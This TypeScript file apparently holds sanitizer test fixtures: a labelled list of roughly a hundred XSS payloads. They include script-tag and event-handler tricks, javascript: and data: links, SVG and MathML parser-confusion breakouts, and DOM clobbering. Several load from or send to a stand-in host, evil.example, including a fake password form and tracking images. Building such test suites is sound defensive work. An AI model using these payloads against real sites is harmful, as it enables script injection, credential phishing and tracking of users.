const svg = '<svg xmlns="http://www.w3.org/2000/svg"';
const zero = String.fromCharCode(0);

/** Ways in which HTML has been made to run, to send or to show what its reader did not ask for; each by what it tries. */
export const payloads: readonly [string, string][] = [
  ['a script', '<script>window.__xss=1</script>'],
  ['a script with a source', '<script src="//evil.example/x.js"></script>'],
  ['a script in other letters', '<ScRiPt>window.__xss=1</sCrIpT>'],
  ['a script with a slash', '<script/x>window.__xss=1</script/x>'],
  ['a script that is not ended', '<script>window.__xss=1'],
  ['a script inside a script', '<scr<script>ipt>window.__xss=1</scr</script>ipt>'],
  ['a script that is put together by what is removed', '<s<b></b>cript>window.__xss=1</s<b></b>cript>'],
  ['a script in entities twice', '&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;'],
  ['a script in entities', '&lt;script&gt;window.__xss=1&lt;/script&gt;'],
  ['a script with a zero in it', `<scr${zero}ipt>window.__xss=1</scr${zero}ipt>`],
  ['a handler on a picture', '<img src=x onerror=window.__xss=1>'],
  ['a handler after slashes', '<img/src=x/onerror=window.__xss=1>'],
  ['a handler after a form feed', '<img\fsrc=x\fonerror=window.__xss=1>'],
  ['a handler on allowed elements', '<p onclick="window.__xss=1" onmouseover=window.__xss=1>text</p>'],
  [
    'a handler on a table cell',
    '<table><tr><td onfocus=window.__xss=1 tabindex=0 autofocus>x</td></tr></table>',
  ],
  ['a handler after a quote', '<p title="a"onclick=window.__xss=1>x</p>'],
  ['a handler behind a backtick', '<img src=`x`onerror=window.__xss=1>'],
  ['a handler in an alternative text', '<img src="x" alt="``onerror=window.__xss=1">'],
  [
    'a way out of a quoted attribute',
    `<a href="https://a.example/&quot; onclick=&quot;window.__xss=1">x</a>`,
  ],
  ['a way out by a single quote', `<a href='https://a.example/" onclick="window.__xss=1'>x</a>`],
  ['a handler on the body', '<body onload=window.__xss=1>x'],
  ['a handler on an end tag', '</p onclick=window.__xss=1>x'],
  ['a handler when it is animated', '<p style="animation:x" onanimationstart=window.__xss=1>x</p>'],
  ['a script as a link', '<a href="javascript:window.__xss=1">x</a>'],
  ['a script as a link in other letters', '<a href="JaVaScRiPt:window.__xss=1">x</a>'],
  ['a script as a link with a tab', '<a href="java\tscript:window.__xss=1">x</a>'],
  ['a script as a link with a line break as an entity', '<a href="java&#10;script:window.__xss=1">x</a>'],
  ['a script as a link with named entities', '<a href="java&Tab;script&colon;window.__xss=1">x</a>'],
  [
    'a script as a link in entities without ends',
    '<a href="&#0000106&#0000097&#0000118avascript:window.__xss=1">x</a>',
  ],
  [
    'a script as a link in hexadecimal entities',
    '<a href="&#x6A&#x61&#x76&#x61script&#x3A;window.__xss=1">x</a>',
  ],
  ['a script as a link after a control sign', '<a href="&#1;javascript:window.__xss=1">x</a>'],
  ['a script as a link after spaces', '<a href=" \n javascript:window.__xss=1">x</a>'],
  ['a script as a link after a space that is no space', '<a href="\u00a0javascript:window.__xss=1">x</a>'],
  ['a script as a link after a byte order mark', '<a href="\ufeffjavascript:window.__xss=1">x</a>'],
  ['a script as a link with a zero in it', `<a href="java${zero}script:window.__xss=1">x</a>`],
  ['a script as a link after a host', '<a href="javascript://a.example/%0Awindow.__xss=1">x</a>'],
  ['a script as a link without quotes', '<a href=javascript:window.__xss=1>x</a>'],
  ['data as a link', '<a href="data:text/html,<script>window.__xss=1</script>">x</a>'],
  ['data in base 64 as a link', '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">x</a>'],
  ['an old script language as a link', '<a href="vbscript:msgbox(1)">x</a>'],
  [
    'a file, a view and a blob as links',
    '<a href="file:///etc">x</a><a href="view-source:x">y</a><a href="blob:x">z</a>',
  ],
  [
    'a link to another site that looks like a path',
    '<a href="//evil.example">x</a><a href="/\\evil.example">y</a>',
  ],
  ['a link with another site’s name in it', '<a href="https://sufra.example@evil.example/">x</a>'],
  [
    'a link that tells others of the click',
    '<a href="https://a.example" ping="https://evil.example" target=_blank>x</a>',
  ],
  ['a drawing that loads', `${svg} onload=window.__xss=1></svg>`],
  ['a script in a drawing', `${svg}><script>window.__xss=1</script></svg>`],
  ['a link in a drawing', `${svg}><a xlink:href="javascript:window.__xss=1"><text y=9>x</text></a></svg>`],
  [
    'a drawing that animates a link',
    `${svg}><a id=a><text>x</text></a><animate href=#a attributeName=href values=javascript:window.__xss=1 /></svg>`,
  ],
  [
    'a drawing that uses another',
    `${svg}><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1/>#x"/></svg>`,
  ],
  ['HTML inside a drawing', `${svg}><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>`],
  ['a drawing left by a paragraph', `${svg}></p><style><a id="</style><img src=1 onerror=window.__xss=1>">`],
  [
    'a drawing with a title that holds HTML',
    `${svg}><title><style></title><img src=x onerror=window.__xss=1></style></svg>`,
  ],
  [
    'formulas that change the language',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
  ],
  [
    'formulas and a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  ],
  [
    'formulas with an annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.__xss=1></style></annotation-xml></math>',
  ],
  ['formulas with a link', '<math href="javascript:window.__xss=1">x</math>'],
  ['a comment that ends early', '<!--><img src=x onerror=window.__xss=1>-->'],
  ['a comment that ends oddly', '<!-- a --!><img src=x onerror=window.__xss=1>'],
  ['a comment of a browser', '<!--[if gte IE 4]><script>window.__xss=1</script><![endif]-->'],
  ['a section of characters', '<![CDATA[<img src=x onerror=window.__xss=1>]]>'],
  [
    'an instruction',
    '<?xml version="1.0"?><?import namespace="t" implementation="#x"><img src=x onerror=window.__xss=1>',
  ],
  [
    'a text area that holds a tag',
    '<textarea><p title="</textarea><img src=x onerror=window.__xss=1>"></textarea>',
  ],
  [
    'a noscript that holds a tag',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  ],
  [
    'a noembed that holds a tag',
    '<noembed><p title="</noembed><img src=x onerror=window.__xss=1>"></noembed>',
  ],
  ['raw text that holds a tag', '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>"></xmp>'],
  ['a title that holds a tag', '<title><p id="</title><img src=x onerror=window.__xss=1>"></title>'],
  ['a style that holds a tag', '<style><img title="</style><img src=x onerror=window.__xss=1>"></style>'],
  ['plain text without end', 'a<plaintext><img src=x onerror=window.__xss=1>'],
  ['a template', '<template><img src=x onerror=window.__xss=1></template>'],
  ['a shadow', '<div><template shadowrootmode=open><img src=x onerror=window.__xss=1></template></div>'],
  ['a list to choose from', '<select><style></select><img src=x onerror=window.__xss=1></style></select>'],
  ['a frame with a document', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  [
    'a frame with a script',
    '<iframe src="javascript:parent.__xss=1"></iframe><frame src=javascript:1><frameset onload=window.__xss=1>',
  ],
  [
    'things that are embedded',
    '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1"><applet code=x>',
  ],
  ['another base', '<base href="https://evil.example/"><a href="/x">y</a>'],
  ['a page that moves on', '<meta http-equiv=refresh content="0;url=javascript:window.__xss=1">'],
  ['another policy', '<meta http-equiv=content-security-policy content="script-src *">'],
  [
    'a style sheet',
    '<link rel=stylesheet href=https://evil.example/x.css><style>@import "https://evil.example"</style>',
  ],
  ['something that is loaded early', '<link rel=preload as=script href=https://evil.example/x.js>'],
  ['a style that calls', '<p style="background:url(https://evil.example/?t)">x</p>'],
  [
    'a style that covers the page',
    '<p style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">Sign in</a></p>',
  ],
  ['a class of the site', '<p class="dialog" id="root" name="x" data-x="1" slot="y" is="z" part="w">x</p>'],
  [
    'names that hide others',
    '<img name=getElementById><form id=document><input name=attributes><a id=location href=x>y</a></form>',
  ],
  [
    'a form that asks for a password',
    '<form action=https://evil.example><input type=password name=p><button>Sign in</button></form>',
  ],
  [
    'a button with an address of its own',
    '<button formaction="javascript:window.__xss=1">x</button><input type=image src=x onerror=window.__xss=1>',
  ],
  [
    'something that opens',
    '<details open ontoggle=window.__xss=1><summary>x</summary></details><dialog open>x</dialog>',
  ],
  [
    'something that plays',
    '<video><source onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1>',
  ],
  ['something that moves', '<marquee onstart=window.__xss=1>x</marquee><blink>y</blink>'],
  ['an element of one’s own', '<x-y onclick=window.__xss=1>x</x-y><p is="x-y">y</p>'],
  [
    'a picture in several sources',
    '<picture><source srcset="https://evil.example/x.png"><img src=https://evil.example/y.png></picture>',
  ],
  [
    'pictures from elsewhere',
    '<img src="https://evil.example/t.gif"><img src=//evil.example/t.gif><img srcset="https://evil.example/t.gif 1x">',
  ],
  [
    'a picture of a script',
    '<img src="javascript:window.__xss=1"><img src="data:image/svg+xml,<svg onload=window.__xss=1>"><img lowsrc=javascript:1 dynsrc=javascript:1>',
  ],
  [
    'a picture that only begins like ours',
    '<img src="/api/v1/blogs/images/../../../evil"><img src="/api/v1/blogs/images/x" onerror=window.__xss=1>',
  ],
  [
    'a background',
    '<table background="javascript:window.__xss=1"><td background="https://evil.example/x">y</td></table>',
  ],
  [
    'a table that throws out what it holds',
    '<table><img src=x onerror=window.__xss=1><a href=javascript:1><table><td>x</table>',
  ],
  [
    'words of a template',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is tried
    '{{constructor.constructor("window.__xss=1")()}} ${window.__xss=1} <%= 1 %> #{1} [[1]]',
  ],
  [
    'what only looks like a tag',
    '< script>window.__xss=1</ script> <\u200bscript>1</script> \uff1cscript\uff1e1\uff1c/script\uff1e',
  ],
  ['an end that opens', '</br onclick=window.__xss=1></p></script><img src=x onerror=window.__xss=1>'],
  ['attributes without a tag', '<" onclick=window.__xss=1 ">x</"><=<img src=x onerror=window.__xss=1>'],
  [
    'an attribute that is there twice',
    '<a href="https://a.example" href="javascript:window.__xss=1">x</a><a HREF=javascript:1 href=https://a.example>y</a>',
  ],
  [
    'names of attributes with signs in them',
    '<p/onclick/="x"onclick=window.__xss=1 <b>x</p><p a<b onclick=window.__xss=1>y</p>',
  ],
  [
    'lists that are nested in formatting',
    '<a href="https://a.example"><ul><li><a href="javascript:1">x</a></ul></a><b><p><i></b>y</i>',
  ],
  ['halves of letters and signs that are none', '<p>\ud800<script\udfff>\ufffe\u0001\u0085\u2028</p>'],
  [
    'a very deep tree',
    `${'<blockquote><b>'.repeat(500)}<img src=x onerror=window.__xss=1>${'</b></blockquote>'.repeat(500)}`,
  ],
  ['a very wide one', '<b>x</b><script>1</script>'.repeat(2_000)],
];
